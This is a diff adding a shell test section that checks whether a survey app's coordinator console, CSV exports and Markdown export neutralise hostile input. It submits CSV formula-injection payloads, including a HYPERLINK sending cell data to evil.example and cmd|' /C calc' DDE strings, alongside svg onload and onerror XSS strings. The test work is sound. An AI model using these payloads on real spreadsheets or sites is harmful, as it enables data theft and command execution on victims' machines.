@@ -235,6 +235,97 @@ check "422 and 409 wrote nothing" "$before" "$(dbsum)"
 printf '<p>%s</p>' "$P2" >"$T/raw.html"
 if python3 "$HERE/inert.py" "$T/raw.html" >/dev/null; then bad "inert.py catches an unescaped payload"; else ok "inert.py catches an unescaped payload"; fi
 
+# ---- the console and the exports ----
+# A's card (P1-P5) and a card from an expert whose name is a payload,
+# with spreadsheet formulas in its text fields, seen by a coordinator:
+# card view, printable card, dashboard and campaign page parsed by
+# inert.py; the csv and csv-long exports parsed by Python's csv module
+# (no cell starts like a formula, each formula arrives with its "'");
+# the md export rendered by cmark --unsafe (raw HTML passed through, so
+# only escaping keeps it out) and parsed by inert.py.
+F1='=HYPERLINK("http://evil.example/?"&A1,"click")'
+F2='+1+cmd|'"'"' /C calc'"'"'!A0'
+F3='-2+3'
+F4='@SUM(1+1)*cmd|'"'"'/C calc'"'"'!A0'
+F5=$'\t=1+1'
+NAME="$P2 $P3 =1+1"
+linkF=$(kf_cli expert add demo --name "$NAME" --email f.1@example.org --fields SF41 | tail -n 1)
+cardF=$(sql "SELECT a.id FROM assignments a JOIN experts e ON e.id = a.expert_id WHERE e.email = 'f.1@example.org'")
+check "formula expert signs in" 303 "$(rl_login "$linkF" "$T/jarF")"
+rl_form "$cardF" "$T/jarF"
+subF="csrf=$RL_CSRF&revision=$RL_REV&action=submit&$(rl_body | sed 's/&economic=[^&]*//; s/&indicators=[^&]*//')"
+subF+="&description=$(enc "$F1")&economic=$(enc "$F2")&examples.example.Fr=$(enc "$F3")&remarks=$(enc "$F4")&social=$(enc "$F5")"
+subF+="&indicators=$(enc "$F1"$'\n'"$F4")"
+check "formulas submitted" 303 "$(curl -s -o /dev/null -w '%{http_code}' -b "$T/jarF" --data-binary "$subF" "$KF_URL/card/$cardF")"
+printf 'hostile console 123\n' | kf_cli coordinator add hc >/dev/null
+C=$T/jar-console
+curl -s -b "$C" -c "$C" "$KF_URL/admin/login" >"$T/login.html"
+ctok=$(grep -o 'name="csrf" value="[^"]*"' "$T/login.html" | head -n 1 | sed 's/.*value="//; s/"$//')
+check "coordinator signs in" 303 "$(curl -s -o /dev/null -w '%{http_code}' -b "$C" -c "$C" --data-urlencode "csrf=$ctok" -d username=hc --data-urlencode 'password=hostile console 123' "$KF_URL/admin/login")"
+respA=$(sql "SELECT id FROM responses WHERE assignment_id = $cardA")
+respF=$(sql "SELECT id FROM responses WHERE assignment_id = $cardF")
+cget() {	# NAME PATH FILE: 200 expected
+	check "console $1: 200" 200 "$(curl -s -o "$3" -w '%{http_code}' -b "$C" "$KF_URL/admin$2")"
+}
+cget "card view (A)" "/r/$respA" "$T/c-cardA.html"
+inert "console card view (A)" "$T/c-cardA.html" "$P1" "$P2" "$P3" "$P4" "$P5"
+cget "printable card (A)" "/r/$respA/print" "$T/c-printA.html"
+inert "console printable card (A)" "$T/c-printA.html" "$P1" "$P2" "$P3" "$P4" "$P5"
+cget "card view (payload name)" "/r/$respF" "$T/c-cardF.html"
+inert "console card view (payload name)" "$T/c-cardF.html" "$NAME" "$F1"
+cget "printable card (payload name)" "/r/$respF/print" "$T/c-printF.html"
+inert "console printable card (payload name)" "$T/c-printF.html" "$NAME" "$F1"
+cget dashboard "/c/demo/dashboard" "$T/c-dash.html"
+INERT_ALLOW_CHART=1 inert "console dashboard (its own charts allowed)" "$T/c-dash.html" "$NAME"
+grep -q '<svg class="chart"' "$T/c-dash.html" && ok "the dashboard has charts" ||
+	bad "the dashboard has charts (the allowance is needed)"
+printf '<p><svg class="chart" onload="alert(1)"></svg></p>' >"$T/raw-chart.html"
+if INERT_ALLOW_CHART=1 python3 "$HERE/inert.py" "$T/raw-chart.html" >/dev/null; then bad "inert.py still catches on* in a chart"; else ok "inert.py still catches on* in a chart"; fi
+cget "campaign page" "/c/demo" "$T/c-camp.html"
+inert "console campaign page" "$T/c-camp.html" "$NAME"
+for fmt in csv csv-long md; do
+	check "export $fmt: 200" 200 "$(curl -s -o "$T/export.$fmt" -w '%{http_code}' -b "$C" "$KF_URL/admin/c/demo/export/$fmt")"
+done
+# csvcheck FILE: no cell starts like a formula; each payload is in a cell
+# as "'" + payload (the first line of a multi-line one at least).
+csvcheck() {
+	python3 - "$@" <<'PY'
+import csv, io, sys
+path, payloads = sys.argv[1], sys.argv[2:]
+with open(path, encoding="utf-8", newline="") as f:
+    text = f.read().lstrip("\ufeff")
+cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
+bad = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+for c in bad[:3]:
+    print("a formula cell: %r" % c[:60])
+missing = [p for p in payloads if not any(
+    c == "'" + p or c.startswith("'" + p + "\n") for c in cells)]
+for p in missing:
+    print("payload %r not neutralised in any cell" % p[:40])
+sys.exit(1 if bad or missing else 0)
+PY
+}
+for fmt in csv csv-long; do
+	if out=$(csvcheck "$T/export.$fmt" "$F1" "$F2" "$F3" "$F4" "$F5" 2>/dev/null)
+	then ok "export $fmt: formulas neutralised (\"'\"), none left"
+	else bad "export $fmt: $out"; fi
+done
+if command -v cmark >/dev/null; then
+	cmark --unsafe "$T/export.md" >"$T/export.md.html"
+	inert "export md (rendered by cmark --unsafe)" "$T/export.md.html" \
+	    "alert(1)" "<svg onload=alert(2)>" "onerror=alert(3)"
+	# The checks can fail: unescaped text through the same path.
+	printf '%s\n' "$P1" | cmark --unsafe >"$T/raw.md.html"
+	if python3 "$HERE/inert.py" "$T/raw.md.html" >/dev/null; then
+		bad "cmark + inert.py catch unescaped Markdown"
+	else ok "cmark + inert.py catch unescaped Markdown"; fi
+else
+	bad "export md: cmark is not installed (apt-get install cmark)"
+fi
+printf 'a,%s\n' "$F1" >"$T/raw.csv"
+if csvcheck "$T/raw.csv" >/dev/null 2>&1; then bad "the CSV check catches a formula cell"
+else ok "the CSV check catches a formula cell"; fi
+
 check "no 5xx in the worker log" 0 "$(grep -c ' 50[0-9] [0-9]*ms' "$KF_VAR/log/survey.log")"
 echo "     $run hostile requests"
 rl_done
